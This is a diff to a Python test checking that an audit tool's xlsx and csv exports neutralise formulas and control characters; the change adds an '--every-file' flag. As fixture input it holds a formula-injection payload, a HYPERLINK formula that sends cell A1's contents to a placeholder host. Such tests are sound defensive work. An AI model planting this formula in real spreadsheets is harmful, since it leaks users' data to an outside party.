@@ -117,7 +117,8 @@ def test_exports_neutralise_formulas_and_control_characters_and_keep_numbers(db:
         store.record_review(copy, cid, "confirmed", '=HYPERLINK("http://x.invalid/?"&A1,"xem")', "@kiểm\x07toán")
     xlsx, csv_out = tmp_path / "m.xlsx", tmp_path / "m.csv"
     for fmt, out in (("xlsx", xlsx), ("csv", csv_out)):
-        r = _baocao("export", "--db", str(copy), "--table", "mismatches", "--format", fmt, "--out", str(out))
+        r = _baocao("export", "--db", str(copy), "--table", "mismatches", "--every-file", "--format", fmt,
+                    "--out", str(out))  # both files: they are one report (near-identical texts)
         assert r.returncode == 0, r.stderr
     ws = openpyxl.load_workbook(xlsx).active
     header = [c.value for c in ws[1]]
